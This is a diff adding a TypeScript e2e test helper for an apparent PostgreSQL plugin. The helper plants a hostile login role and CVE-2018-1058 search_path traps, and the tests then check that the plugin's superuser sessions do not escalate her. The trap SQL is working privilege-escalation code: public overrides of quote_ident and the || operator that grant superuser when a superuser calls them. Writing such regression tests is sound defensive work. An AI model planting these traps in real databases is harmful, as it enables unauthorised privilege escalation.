@@ -1,0 +1,35 @@
+import type { SqlRunner } from './fingerprint.ts';
+
+/**
+ * A login role that lays the CVE-2018-1058 traps for the plugin's superuser sessions (issue of the hostile roles):
+ * a `public.quote_ident(name)` and a `public.|| (name, text)` that match the plugin's arguments better than
+ * pg_catalog's, and make `mallory` superuser when a superuser calls them; and a database of hers whose default
+ * search_path puts public first. On 10 to 14 anyone may create in public; from 15 a DBA has to grant it, as this
+ * one did. e2e cases plant it before their fingerprint and assert that she is still NOSUPERUSER afterwards.
+ */
+export const HOSTILE_ROLE = 'mallory';
+
+const trap = (body: string) => `language plpgsql as $f$ begin
+  if pg_catalog.current_setting('is_superuser') = 'on' then execute 'alter role ${HOSTILE_ROLE} superuser'; end if;
+  ${body}
+end $f$`;
+
+const TRAPS = `set role ${HOSTILE_ROLE};
+create function public.quote_ident(name) returns text ${trap('return pg_catalog.quote_ident($1::text);')};
+create function public.mallory_cat(name, text) returns text ${trap('return pg_catalog.textcat($1::text, $2);')};
+create operator public.|| (leftarg = name, rightarg = text, function = public.mallory_cat);
+reset role;`;
+
+/** Plants the role and her traps in postgres and in her own database `mallorys`. */
+export async function plantHostileRole(sql: SqlRunner): Promise<void> {
+  await sql('postgres', `create role ${HOSTILE_ROLE} login password 'mallory-pass-1'; grant create on schema public to ${HOSTILE_ROLE}`);
+  await sql('postgres', `create database mallorys owner ${HOSTILE_ROLE}`);
+  await sql('mallorys', `grant create on schema public to ${HOSTILE_ROLE}`);
+  for (const db of ['postgres', 'mallorys']) await sql(db, TRAPS);
+  await sql('postgres', `alter database mallorys set search_path = public, pg_catalog`);
+}
+
+/** Whether she became superuser (through anyone's session that resolved a trap). */
+export async function hostileRoleIsSuperuser(sql: SqlRunner): Promise<boolean> {
+  return (await sql('postgres', `select rolsuper from pg_catalog.pg_roles where rolname = '${HOSTILE_ROLE}'`)).trim() === 't';
+}
